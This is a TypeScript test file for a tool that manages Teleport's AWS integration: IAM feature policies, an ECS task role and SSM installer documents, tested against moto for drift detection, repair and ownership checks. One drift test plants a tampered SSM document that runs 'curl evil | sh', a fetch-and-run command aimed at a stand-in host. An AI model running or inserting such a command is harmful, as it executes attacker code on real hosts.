/** Features as code against moto (real AWS SDK over HTTP), the tctl stand-in and the local HTTPS issuer. */
import {
  CreateRoleCommand,
  DeleteRolePolicyCommand,
  GetRoleCommand,
  GetRolePolicyCommand,
  ListRolePoliciesCommand,
  PutRolePolicyCommand,
  UntagRoleCommand,
  UpdateAssumeRolePolicyCommand,
} from '@aws-sdk/client-iam';
import {
  CreateDocumentCommand,
  DescribeDocumentCommand,
  GetDocumentCommand,
  SSMClient,
  UpdateDocumentCommand,
  UpdateDocumentDefaultVersionCommand,
} from '@aws-sdk/client-ssm';
import { beforeEach, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { runAction } from '../src/engine/run.js';
import { ACCOUNT, OWNED_TAGS, settingsFor, useHarness } from './support/harness.js';
import { taggingStandIn } from './support/tagging-standin.js';
import {
  ALL_FEATURES,
  normalisePolicy,
  PARAMETERIZED_FEATURES,
  referenceDeployService,
  referenceParameterizedPolicies,
  referencePolicies,
} from './support/teleport-policies.js';
import { workerMotoUrl } from './support/worker.js';

const h = useHarness();
const motoUrl = workerMotoUrl();
const credentials = { accessKeyId: 'test', secretAccessKey: 'test' };
const ssm = (region: string) => new SSMClient({ endpoint: motoUrl, region, credentials });
const ROLE = 'teleport-test-role';
const ROLE_ARN = `arn:aws:iam::${ACCOUNT}:role/${ROLE}`;
const docArn = (region: string, name = 'TeleportDiscoveryInstaller') => `arn:aws:ssm:${region}:${ACCOUNT}:document/${name}`;

async function inlinePolicy(name: string, region = 'us-east-1'): Promise<unknown> {
  const { PolicyDocument } = await h.direct(region).send(new GetRolePolicyCommand({ RoleName: ROLE, PolicyName: name }));
  return JSON.parse(decodeURIComponent(PolicyDocument!));
}

async function policyNames(): Promise<string[]> {
  return (await h.direct().send(new ListRolePoliciesCommand({ RoleName: ROLE }))).PolicyNames ?? [];
}

async function apply(inputs: Record<string, string>) {
  const result = await runAction(settingsFor(inputs), h.deps());
  expect(result.failure).toBeUndefined();
  h.proxy.clear();
  return result;
}

/** The ec2-ssm document in a region, as features.md describes it, with its install path. */
async function expectTeleportDocument(region: string, extraTags: { Key: string; Value: string }[] = []): Promise<string> {
  const { Document } = await ssm(region).send(new DescribeDocumentCommand({ Name: 'TeleportDiscoveryInstaller' }));
  expect(Document).toMatchObject({ DocumentType: 'Command', DocumentFormat: 'YAML', SchemaVersion: '2.2' });
  expect(Document!.Tags).toEqual(expect.arrayContaining([...OWNED_TAGS, ...extraTags]));
  const { Content } = await ssm(region).send(new GetDocumentCommand({ Name: 'TeleportDiscoveryInstaller' }));
  const content = parseYaml(Content!) as {
    schemaVersion: string;
    parameters: Record<string, { type: string }>;
    mainSteps: { action: string; name: string; inputs: Record<string, unknown> }[];
  };
  expect(content.schemaVersion).toBe('2.2');
  expect(content.parameters.token.type).toBe('String');
  expect(content.parameters.scriptName.type).toBe('String');
  const [download, run] = content.mainSteps;
  expect(download).toMatchObject({
    action: 'aws:downloadContent',
    name: 'downloadContent',
    inputs: { sourceType: 'HTTP', sourceInfo: { url: 'https://localhost/webapi/scripts/installer/{{ scriptName }}' } },
  });
  const path = download.inputs.destinationPath as string;
  expect(path).toMatch(/^\/tmp\/installTeleport-[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\.sh$/);
  expect(run).toEqual({
    action: 'aws:runShellScript',
    name: 'runShellScript',
    inputs: { timeoutSeconds: '300', runCommand: [`/bin/sh ${path} "{{ token }}"`] },
  });
  return path;
}

describe('features: apply', () => {
  it("writes every feature's inline policy exactly as Teleport's reference, and the integration's audience", async () => {
    const result = await runAction(settingsFor({ features: ALL_FEATURES }), h.deps());
    expect(result.failure).toBeUndefined();
    const reference = referencePolicies('aws', ACCOUNT, 'us-east-1');
    expect((await policyNames()).sort()).toEqual(
      Object.values(reference)
        .map((p) => p.name)
        .sort(),
    );
    for (const [feature, { name, document }] of Object.entries(reference)) {
      expect(normalisePolicy(await inlinePolicy(name)), `${feature}: ${name}`).toEqual(normalisePolicy(document));
    }
    expect(h.storedIntegration('aws-test')?.spec.aws_oidc).toEqual({ role_arn: ROLE_ARN, audience: 'aws-identity-center' });
    const outcomes = JSON.parse(result.outputs.features);
    expect(Object.keys(outcomes)).toHaveLength(8);
    expect(outcomes.eks).toEqual({ policy: 'EKSAccess', status: 'created' });
    expect(outcomes['ec2-ssm']).toEqual({ policy: 'EC2DiscoverWithSSM', status: 'created', documents: { 'us-east-1': 'created', 'eu-west-1': 'created' } });
  });

  it('builds every ARN from the caller partition (GovCloud external audit storage)', async () => {
    const result = await runAction(settingsFor({ features: ALL_FEATURES.replace('[us-east-1, eu-west-1]', '[us-gov-west-1]'), 'skip-teleport': 'true' }), {
      ...h.deps({ region: 'us-gov-west-1', skipTeleport: true }),
    });
    expect(result.failure).toBeUndefined();
    const { PolicyDocument } = await h.direct('us-gov-west-1').send(new GetRolePolicyCommand({ RoleName: ROLE, PolicyName: 'ExternalAuditStorage' }));
    const reference = referencePolicies('aws-us-gov', ACCOUNT, 'us-gov-west-1')['external-audit-storage'].document;
    expect(normalisePolicy(JSON.parse(decodeURIComponent(PolicyDocument!)))).toEqual(normalisePolicy(reference));
    expect(result.outputs['features']).toContain('"us-gov-west-1":"created"');
  });

  it('keeps the SSM document in every listed region, tagged, with Teleport content; a second apply of all eight writes nothing', async () => {
    await apply({ features: ALL_FEATURES, tags: 'team=platform' });
    const east = await expectTeleportDocument('us-east-1', [{ Key: 'team', Value: 'platform' }]);
    const west = await expectTeleportDocument('eu-west-1', [{ Key: 'team', Value: 'platform' }]);
    expect(east).not.toBe(west); // a random install path per write

    const tctlWrites = h.tctlWrites();
    const again = await runAction(settingsFor({ features: ALL_FEATURES, tags: 'team=platform' }), h.deps());
    expect(again.failure).toBeUndefined();
    expect(again.changes).toEqual([]);
    expect(h.proxy.writes()).toEqual([]);
    expect(h.tctlWrites()).toBe(tctlWrites);
    // The caller identity, then one read each: provider, role, 8 inline policies, 2 documents × (describe, get).
    expect(h.proxy.calls).toHaveLength(15);
    expect(JSON.parse(again.outputs.features)['ec2-ssm'].documents).toEqual({ 'us-east-1': 'unchanged', 'eu-west-1': 'unchanged' });
  });

  it('reads everything in one round of concurrent reads after the caller identity', async () => {
    await apply({ features: ALL_FEATURES });
    // Every read after the identity is held until all 14 have arrived: reads made one after
    // another would never all arrive, and the barrier would time out.
    const expected = 14;
    let arrived = 0;
    let timedOut = false;
    let release!: () => void;
    const released = new Promise<void>((resolve) => (release = resolve));
    const timer = setTimeout(() => {
      timedOut = true;
      release();
    }, 3_000);
    h.proxy.addFault({
      name: 'barrier',
      standIn: true,
      on: (call) => {
        if (call.action === 'GetCallerIdentity') return undefined;
        if (++arrived === expected) release();
        return { kind: 'before', run: () => released };
      },
    });
    const result = await runAction(settingsFor({ features: ALL_FEATURES }), h.deps());
    clearTimeout(timer);
    expect(result.changes).toEqual([]);
    expect(timedOut).toBe(false);
    expect(arrived).toBe(expected);
  });

  it('with one feature, a no-op apply makes 4 AWS calls and no write', async () => {
    await apply({ features: 'eks' });
    const again = await runAction(settingsFor({ features: 'eks' }), h.deps());
    expect(again.changes).toEqual([]);
    expect(h.proxy.actions().sort()).toEqual(['iam:GetOpenIDConnectProvider', 'iam:GetRole', 'iam:GetRolePolicy', 'sts:GetCallerIdentity']);
  });

  it('repairs a policy edited out of band with exactly one PutRolePolicy, after check reports it as drift', async () => {
    await apply({ features: 'eks, rds' });
    const edited = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['eks:ListClusters', 'eks:*'], Resource: '*' }] };
    await h.direct().send(new PutRolePolicyCommand({ RoleName: ROLE, PolicyName: 'EKSAccess', PolicyDocument: JSON.stringify(edited) }));

    h.proxy.addFault(taggingStandIn(motoUrl));
    const check = await runAction(settingsFor({ mode: 'check', features: 'eks, rds' }), h.deps());
    expect(check.drift).toBe(true);
    expect(check.findings.map((f) => `${f.resource} ${f.target}`)).toContain(`Feature policy: update-role-policy ${ROLE_ARN} (inline policy EKSAccess)`);
    expect(check.annotations.some((a) => a.level === 'error' && /inline policy EKSAccess differs from Teleport's/.test(a.message))).toBe(true);
    expect(check.markdown).toContain('- Allow eks:* on *');
    expect(check.markdown).toContain('+ Allow eks:TagResource on *');
    expect(JSON.parse(check.outputs.features).eks.status).toBe('drift');
    expect(h.proxy.writes()).toEqual([]);
    h.proxy.clear();

    const repaired = await runAction(settingsFor({ features: 'eks, rds' }), h.deps());
    expect(repaired.changes.map((c) => c.action)).toEqual(['update-role-policy']);
    expect(h.proxy.writes().map((c) => c.action)).toEqual(['PutRolePolicy']);
    expect(normalisePolicy(await inlinePolicy('EKSAccess'))).toEqual(normalisePolicy(referencePolicies('aws', ACCOUNT, 'us-east-1').eks.document));
  });

  it('plan shows the permissions a changed policy adds and removes, and writes nothing', async () => {
    await apply({ features: 'eks' });
    const narrowed = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['eks:ListClusters', 's3:*'], Resource: '*' }] };
    await h.direct().send(new PutRolePolicyCommand({ RoleName: ROLE, PolicyName: 'EKSAccess', PolicyDocument: JSON.stringify(narrowed) }));
    const plan = await runAction(settingsFor({ mode: 'plan', features: 'eks, rds' }), h.deps());
    expect(plan.changes.map((c) => c.action)).toEqual(['update-role-policy', 'create-role-policy']);
    expect(plan.markdown).toContain('Inline policy EKSAccess (feature eks, changed): 6 added, 1 removed');
    expect(plan.markdown).toContain('- Allow s3:* on *');
    expect(plan.markdown).toContain('+ Allow eks:AssociateAccessPolicy on *');
    expect(plan.markdown).toContain('Inline policy ListDatabases (feature rds, new): 5 added, 0 removed');
    expect(h.proxy.writes()).toEqual([]);
  });
});

describe('features with parameters: access-graph event sources, session-summaries', () => {
  const teleport = referenceParameterizedPolicies('aws', ACCOUNT);
  const declared = PARAMETERIZED_FEATURES(ACCOUNT);
  type Doc = { Statement: { Action: string[]; Resource: string[] }[] };
  /** Teleport's documents with this action's two corrections (docs/features.md): objects of the bucket, a foundation model's ARN. */
  const corrected = () => {
    const accessGraph = structuredClone(teleport['access-graph-events'].document) as Doc;
    accessGraph.Statement[2].Resource.push('arn:aws:s3:::acme-cloudtrail/*');
    const summaries = structuredClone(teleport['session-summaries'].document) as Doc;
    summaries.Statement[0].Resource = ['arn:aws:bedrock:*::foundation-model/anthropic.claude-v2'];
    return { accessGraph, summaries };
  };

  it("writes Teleport's statements for each source and the model, with the two corrections; a re-run writes nothing", async () => {
    await apply({ features: declared });
    const { accessGraph, summaries } = corrected();
    expect(normalisePolicy(await inlinePolicy('AccessGraphSyncAccess'))).toEqual(normalisePolicy(accessGraph));
    expect(normalisePolicy(await inlinePolicy('TeleportBedrockSessionSummariesAccess'))).toEqual(normalisePolicy(summaries));

    const again = await runAction(settingsFor({ features: declared }), h.deps());
    expect(again.changes).toEqual([]);
    expect(h.proxy.writes()).toEqual([]);
  });

  it("plans and repairs the policies as Teleport's CLI wrote them: the bucket's objects added, the model's ARN without an account", async () => {
    await apply({ features: 'eks' });
    for (const { name, document } of Object.values(teleport)) {
      await h.direct().send(new PutRolePolicyCommand({ RoleName: ROLE, PolicyName: name, PolicyDocument: JSON.stringify(document) }));
    }
    h.proxy.clear();
    const plan = await runAction(settingsFor({ mode: 'plan', features: declared }), h.deps());
    expect(plan.changes.map((c) => `${c.action} ${c.target}`)).toEqual([
      `update-role-policy ${ROLE_ARN} (inline policy AccessGraphSyncAccess)`,
      `update-role-policy ${ROLE_ARN} (inline policy TeleportBedrockSessionSummariesAccess)`,
    ]);
    expect(plan.markdown).toContain('Inline policy AccessGraphSyncAccess (feature access-graph, changed): 5 added, 0 removed');
    expect(plan.markdown).toContain('+ Allow s3:GetObject on arn:aws:s3:::acme-cloudtrail/*');
    expect(plan.markdown).toContain(`- Allow bedrock:InvokeModel on arn:aws:bedrock:*:${ACCOUNT}:foundation-model/anthropic.claude-v2`);
    expect(plan.markdown).toContain('+ Allow bedrock:InvokeModel on arn:aws:bedrock:*::foundation-model/anthropic.claude-v2');
    expect(h.proxy.writes()).toEqual([]);

    await apply({ features: declared });
    const { accessGraph, summaries } = corrected();
    expect(normalisePolicy(await inlinePolicy('AccessGraphSyncAccess'))).toEqual(normalisePolicy(accessGraph));
    expect(normalisePolicy(await inlinePolicy('TeleportBedrockSessionSummariesAccess'))).toEqual(normalisePolicy(summaries));
  });

  it('check: a queue edited out of band is drift; an undeclared session-summaries policy is a warning with the line to add', async () => {
    await apply({ features: declared });
    const edited = corrected().accessGraph;
    edited.Statement[1].Resource = [`arn:aws:sqs:us-west-2:${ACCOUNT}:other-queue`];
    await h.direct().send(new PutRolePolicyCommand({ RoleName: ROLE, PolicyName: 'AccessGraphSyncAccess', PolicyDocument: JSON.stringify(edited) }));
    h.proxy.addFault(taggingStandIn(motoUrl));
    const check = await runAction(settingsFor({ mode: 'check', features: declared.replace(/session-summaries:\n.*\n/, '') }), h.deps());
    expect(check.drift).toBe(true);
    expect(check.findings.map((f) => f.target)).toEqual([`${ROLE_ARN} (inline policy AccessGraphSyncAccess)`]);
    expect(check.markdown).toContain(`- Allow sqs:ReceiveMessage on arn:aws:sqs:us-west-2:${ACCOUNT}:other-queue`);
    expect(check.markdown).toContain(`+ Allow sqs:ReceiveMessage on arn:aws:sqs:us-west-2:${ACCOUNT}:cloudtrail-events`);
    const warning = check.annotations.find((a) => a.title === 'Undeclared feature policy: TeleportBedrockSessionSummariesAccess');
    expect(warning?.message).toContain('session-summaries: with its parameters');
  });
});

describe('features: deploy-service, a task role of its own', () => {
  const reference = referenceDeployService('aws', ACCOUNT);
  const DEPLOY = 'deploy-service: { task-role: TeleportDatabaseServiceTask }';
  const TASK = 'TeleportDatabaseServiceTask';
  const TASK_ARN = `arn:aws:iam::${ACCOUNT}:role/${TASK}`;

  async function taskRole() {
    const { Role } = await h.direct().send(new GetRoleCommand({ RoleName: TASK }));
    const { PolicyDocument } = await h.direct().send(new GetRolePolicyCommand({ RoleName: TASK, PolicyName: TASK }));
    return {
      description: Role!.Description,
      trustPolicy: JSON.parse(decodeURIComponent(Role!.AssumeRolePolicyDocument!)),
      policy: JSON.parse(decodeURIComponent(PolicyDocument!)),
      tags: Role!.Tags,
    };
  }

  it("makes Teleport's task role and DeployService policy, passing only that role; a re-run writes nothing", async () => {
    const result = await apply({ features: DEPLOY, tags: 'team=db' });
    expect(result.changes.map((c) => `${c.action} ${c.target}`)).toEqual([
      `create-provider arn:aws:iam::${ACCOUNT}:oidc-provider/localhost`,
      `create-role ${ROLE_ARN}`,
      `create-role-policy ${ROLE_ARN} (inline policy DeployService)`,
      `create-task-role ${TASK_ARN} (deploy-service's task role)`,
      'create-integration aws-test',
    ]);
    expect(JSON.parse(result.outputs.features)['deploy-service']).toEqual({ policy: 'DeployService', status: 'created', taskRole: 'created' });
    expect(normalisePolicy(await inlinePolicy('DeployService'))).toEqual(normalisePolicy(reference.integrationRolePolicy.document));
    const live = await taskRole();
    expect(live.description).toBe(reference.taskRole.description);
    expect(normalisePolicy(live.trustPolicy)).toEqual(normalisePolicy(reference.taskRole.trustPolicy));
    expect(normalisePolicy(live.policy)).toEqual(normalisePolicy(reference.taskRole.policy));
    expect(live.tags).toEqual(expect.arrayContaining([...OWNED_TAGS, { Key: 'team', Value: 'db' }]));
    expect(result.markdown).toMatch(/Task role \(deploy-service\) \| <code>arn:aws:iam::\d+:role\/TeleportDatabaseServiceTask<\/code> \| created/);

    const again = await runAction(settingsFor({ features: DEPLOY, tags: 'team=db' }), h.deps());
    expect(again.changes).toEqual([]);
    expect(h.proxy.writes()).toEqual([]);
    expect(again.markdown).toContain('exists, trusted by ECS tasks, with its inline policy TeleportDatabaseServiceTask and tagged for this integration');
    expect(JSON.parse(again.outputs.features)['deploy-service']).toEqual({ policy: 'DeployService', status: 'unchanged', taskRole: 'unchanged' });
  });

  it('check finds the task role edited by hand; apply repairs it and keeps a trust statement someone added', async () => {
    await apply({ features: DEPLOY });
    const added = { Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' };
    await h.direct().send(new UpdateAssumeRolePolicyCommand({ RoleName: TASK, PolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [added] }) }));
    await h.direct().send(new DeleteRolePolicyCommand({ RoleName: TASK, PolicyName: TASK }));
    await h.direct().send(new UntagRoleCommand({ RoleName: TASK, TagKeys: ['teleport.dev/cluster'] }));
    h.proxy.addFault(taggingStandIn(motoUrl));
    const check = await runAction(settingsFor({ mode: 'check', features: DEPLOY }), h.deps());
    expect(check.drift).toBe(true);
    expect(check.findings.map((f) => `${f.resource}: ${f.message}`)).toEqual([
      `Task role (deploy-service): update-task-role: ${TASK_ARN} (deploy-service's task role): its trust policy lacks ecs-tasks.amazonaws.com; ` +
        'inline policy TeleportDatabaseServiceTask is missing; tags missing: teleport.dev/cluster=teleport.example.com. Run this action with mode: apply to repair it.',
    ]);
    expect(h.proxy.writes()).toEqual([]);

    const repaired = await apply({ features: DEPLOY });
    expect(repaired.changes.map((c) => c.action)).toEqual(['update-task-role']);
    const live = await taskRole();
    expect(normalisePolicy(live.trustPolicy)).toEqual(
      normalisePolicy({ Version: '2012-10-17', Statement: [added, ...reference.taskRole.trustPolicy.Statement] }),
    );
    expect(normalisePolicy(live.policy)).toEqual(normalisePolicy(reference.taskRole.policy));
    expect(live.tags).toEqual(expect.arrayContaining(OWNED_TAGS));
  });

  it("refuses a task role that is not this integration's, writing nothing to it, and says what to do", async () => {
    await h.direct().send(new CreateRoleCommand({ RoleName: TASK, AssumeRolePolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [] }) }));
    const result = await runAction(settingsFor({ features: DEPLOY }), h.deps());
    expect(result.failure).toMatch(
      /Role TeleportDatabaseServiceTask exists in this account without tag teleport.dev\/integration=aws-test \(no tags\): it is someone else's, and is never changed\. Choose another task-role under deploy-service/,
    );
    expect(h.proxy.writes()).toEqual([]);
    expect(JSON.parse(result.outputs.features)['deploy-service'].taskRole).toBe('refused');
    const { Role } = await h.direct().send(new GetRoleCommand({ RoleName: TASK }));
    expect(Role!.Tags ?? []).toEqual([]);
  });

  it('rejects a task role named as the integration role before any call', async () => {
    expect(() => settingsFor({ features: 'deploy-service: { task-role: teleport-test-role }' })).toThrow(
      /Input 'features': deploy-service: task-role "teleport-test-role" is the integration role/,
    );
  });
});

describe('features: what is not declared', () => {
  const customDocument = { Version: '2012-10-17', Statement: [{ Sid: 'Mine', Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::mine/*' }] };

  beforeEach(() => h.proxy.addFault(taggingStandIn(motoUrl)));

  it('reports an undeclared EKSAccess in check with the line to add, without failing, and never removes it', async () => {
    await apply({ features: 'rds' });
    const eks = referencePolicies('aws', ACCOUNT, 'us-east-1').eks.document;
    await h.direct().send(new PutRolePolicyCommand({ RoleName: ROLE, PolicyName: 'EKSAccess', PolicyDocument: JSON.stringify(eks) }));

    const check = await runAction(settingsFor({ mode: 'check', features: 'rds' }), h.deps());
    expect(check.findings).toEqual([]);
    expect(check.drift).toBe(false);
    expect(check.failure).toBeUndefined();
    const warning = check.annotations.find((a) => a.title === 'Undeclared feature policy: EKSAccess');
    expect(warning?.level).toBe('warning');
    expect(warning?.message).toContain('add this line to the features input: eks:');
    expect(check.markdown).toContain('not declared');

    for (const mode of ['plan', 'apply']) {
      const result = await runAction(settingsFor({ mode, features: 'rds' }), h.deps());
      expect(result.changes).toEqual([]);
    }
    expect(h.proxy.actions().filter((a) => /Delete|Put|Detach/.test(a))).toEqual([]);
    expect(normalisePolicy(await inlinePolicy('EKSAccess'))).toEqual(normalisePolicy(eks));
  });

  it('an undeclared AccessGraphSyncAccess: the line to add says its event sources go with it (declared bare, apply would drop them)', async () => {
    await apply({ features: 'rds' });
    const { name, document } = referenceParameterizedPolicies('aws', ACCOUNT)['access-graph-events'];
    await h.direct().send(new PutRolePolicyCommand({ RoleName: ROLE, PolicyName: name, PolicyDocument: JSON.stringify(document) }));
    const check = await runAction(settingsFor({ mode: 'check', features: 'rds' }), h.deps());
    const warning = check.annotations.find((a) => a.title === 'Undeclared feature policy: AccessGraphSyncAccess');
    expect(warning?.message).toContain(
      'access-graph: (with sqs-queue-url, cloudtrail-bucket-arn and kms-key-arns if its policy names them; mode: import writes them out)',
    );
  });

  it('an undeclared DeployService: a warning with the line to add, its task role never touched', async () => {
    await apply({ features: 'rds' });
    const { name, document } = referenceDeployService('aws', ACCOUNT).integrationRolePolicy;
    await h.direct().send(new PutRolePolicyCommand({ RoleName: ROLE, PolicyName: name, PolicyDocument: JSON.stringify(document) }));
    h.proxy.clear();
    const check = await runAction(settingsFor({ mode: 'check', features: 'rds' }), h.deps());
    expect(check.drift).toBe(false);
    const warning = check.annotations.find((a) => a.title === 'Undeclared feature policy: DeployService');
    expect(warning?.level).toBe('warning');
    expect(warning?.message).toContain('deploy-service: with its parameters, e.g. { deploy-service: { task-role: TeleportDatabaseServiceTask } }');
    expect(h.proxy.writes()).toEqual([]);
  });

  it('leaves an inline policy with another name untouched in every mode', async () => {
    await apply({ features: 'eks' });
    await h.direct().send(new PutRolePolicyCommand({ RoleName: ROLE, PolicyName: 'CustomPolicy', PolicyDocument: JSON.stringify(customDocument) }));
    for (const mode of ['apply', 'plan', 'check']) {
      const result = await runAction(settingsFor({ mode, features: ALL_FEATURES }), h.deps());
      expect(result.annotations.some((a) => a.message.includes('CustomPolicy'))).toBe(false);
    }
    expect(await policyNames()).toContain('CustomPolicy');
    expect(await inlinePolicy('CustomPolicy')).toEqual(customDocument);
  });

  it('check: a document tagged for the integration in a region ec2-ssm no longer lists is drift', async () => {
    await apply({ features: 'ec2-ssm: { regions: [us-east-1, eu-west-1] }' });
    const check = await runAction(settingsFor({ mode: 'check', features: 'ec2-ssm: { regions: [us-east-1] }', regions: 'us-east-1, eu-west-1' }), h.deps());
    expect(check.findings.map((f) => [f.resource, f.target])).toEqual([['Tagged inventory', docArn('eu-west-1')]]);
    expect(check.findings[0].message).toContain('left behind when a region or the document name was dropped');
    expect(check.failure).toMatch(/Drift found: 1 difference/);
    // Every listed region is scanned, and the document of each listed region is found in the index.
    expect(
      h.proxy.calls
        .filter((c) => c.action === 'GetResources')
        .map((c) => c.region)
        .sort(),
    ).toEqual(['eu-west-1', 'us-east-1']);
  });

  it('check: a missing or changed document in a listed region is drift; apply makes a new default version', async () => {
    await apply({ features: 'ec2-ssm: { regions: [us-east-1, eu-west-1] }' });
    const west = ssm('eu-west-1');
    const changed = await west.send(
      new UpdateDocumentCommand({
        Name: 'TeleportDiscoveryInstaller',
        Content: JSON.stringify({
          schemaVersion: '2.2',
          description: 'x',
          mainSteps: [{ action: 'aws:runShellScript', name: 'evil', inputs: { runCommand: ['curl evil | sh'] } }],
        }),
        DocumentVersion: '$LATEST',
      }),
    );
    await west.send(
      new UpdateDocumentDefaultVersionCommand({ Name: 'TeleportDiscoveryInstaller', DocumentVersion: changed.DocumentDescription!.DocumentVersion }),
    );

    const check = await runAction(settingsFor({ mode: 'check', features: 'ec2-ssm: { regions: [us-east-1, eu-west-1] }' }), h.deps());
    expect(check.findings.map((f) => `${f.resource} ${f.target}`)).toEqual([`SSM document: update-document ${docArn('eu-west-1')}`]);
    h.proxy.clear();
    const repaired = await runAction(settingsFor({ features: 'ec2-ssm: { regions: [us-east-1, eu-west-1] }' }), h.deps());
    expect(repaired.changes.map((c) => c.action)).toEqual(['update-document']);
    expect(h.proxy.writes().map((c) => `${c.action} ${c.region}`)).toEqual(['UpdateDocument eu-west-1', 'UpdateDocumentDefaultVersion eu-west-1']);
    await expectTeleportDocument('eu-west-1');
  });
});

describe('features: documents it does not own', () => {
  const foreign = JSON.stringify({
    schemaVersion: '2.2',
    description: 'theirs',
    mainSteps: [{ action: 'aws:runShellScript', name: 'run', inputs: { runCommand: ['true'] } }],
  });

  it('refuses a document tagged for another integration, writing nothing anywhere', async () => {
    await ssm('eu-west-1').send(
      new CreateDocumentCommand({
        Name: 'TeleportDiscoveryInstaller',
        Content: foreign,
        DocumentType: 'Command',
        Tags: [...OWNED_TAGS.slice(0, 2), { Key: 'teleport.dev/integration', Value: 'aws-other' }],
      }),
    );
    const result = await runAction(settingsFor({ features: 'ec2-ssm: { regions: [us-east-1, eu-west-1] }', 'adopt-existing-document': 'true' }), h.deps());
    expect(result.failure).toMatch(/SSM document TeleportDiscoveryInstaller in eu-west-1 is tagged teleport.dev\/integration=aws-other/);
    expect(h.proxy.writes()).toEqual([]);
    expect(h.tctlWrites()).toBe(0);
    expect(JSON.parse(result.outputs.features)['ec2-ssm'].documents['eu-west-1']).toBe('refused');
    const { Content } = await ssm('eu-west-1').send(new GetDocumentCommand({ Name: 'TeleportDiscoveryInstaller' }));
    expect(JSON.parse(Content!)).toEqual(JSON.parse(foreign));
  });

  it('refuses an untagged document unless adopt-existing-document is set, then takes it over', async () => {
    await ssm('us-east-1').send(new CreateDocumentCommand({ Name: 'TeleportDiscoveryInstaller', Content: foreign, DocumentType: 'Command' }));
    const refused = await runAction(settingsFor({ features: 'ec2-ssm' }), h.deps());
    expect(refused.failure).toMatch(/already exists but is not managed by this integration/);
    expect(refused.failure).toMatch(/adopt-existing-document: true/);
    expect(h.proxy.writes()).toEqual([]);

    const adopted = await runAction(settingsFor({ features: 'ec2-ssm', 'adopt-existing-document': 'true' }), h.deps());
    expect(adopted.failure).toBeUndefined();
    expect(adopted.changes.filter((c) => c.resource === 'ssm-document').map((c) => c.action)).toEqual(['update-document', 'tag-document']);
    await expectTeleportDocument('us-east-1');
  });

  it('with AWS-RunShellScript creates no document and makes no SSM call', async () => {
    await apply({ features: 'ec2-ssm: { document: AWS-RunShellScript }' });
    const again = await runAction(settingsFor({ features: 'ec2-ssm: { document: AWS-RunShellScript }' }), h.deps());
    expect(again.changes).toEqual([]);
    expect(h.proxy.calls.filter((c) => c.service === 'ssm')).toEqual([]);
    expect(JSON.parse(again.outputs.features)['ec2-ssm']).toEqual({ policy: 'EC2DiscoverWithSSM', status: 'unchanged', documents: {} });
  });

  it('gives a role it does not own no policy either', async () => {
    await h.direct().send(
      new (await import('@aws-sdk/client-iam')).CreateRoleCommand({
        RoleName: ROLE,
        AssumeRolePolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [] }),
        Tags: [{ Key: 'teleport.dev/integration', Value: 'aws-other' }],
      }),
    );
    const result = await runAction(settingsFor({ mode: 'plan', features: 'eks' }), h.deps());
    expect(result.failure).toMatch(/belongs to another Teleport integration/);
    expect(result.changes.filter((c) => c.resource === 'role-policy')).toEqual([]);
    expect(JSON.parse(result.outputs.features).eks.status).toBe('refused');
  });
});

describe('account-id', () => {
  it('stops right after the caller identity when the account differs, naming both', async () => {
    await expect(runAction(settingsFor({ 'account-id': '210987654321', features: 'eks' }), h.deps())).rejects.toThrow(
      /credentials are for account 123456789012 .* but account-id is 210987654321/,
    );
    expect(h.proxy.actions()).toEqual(['sts:GetCallerIdentity']);
    expect(h.tctlWrites()).toBe(0);
  });

  it('goes on when it matches', async () => {
    const result = await runAction(settingsFor({ 'account-id': ACCOUNT }), h.deps());
    expect(result.failure).toBeUndefined();
    expect(result.changes.length).toBeGreaterThan(0);
  });
});
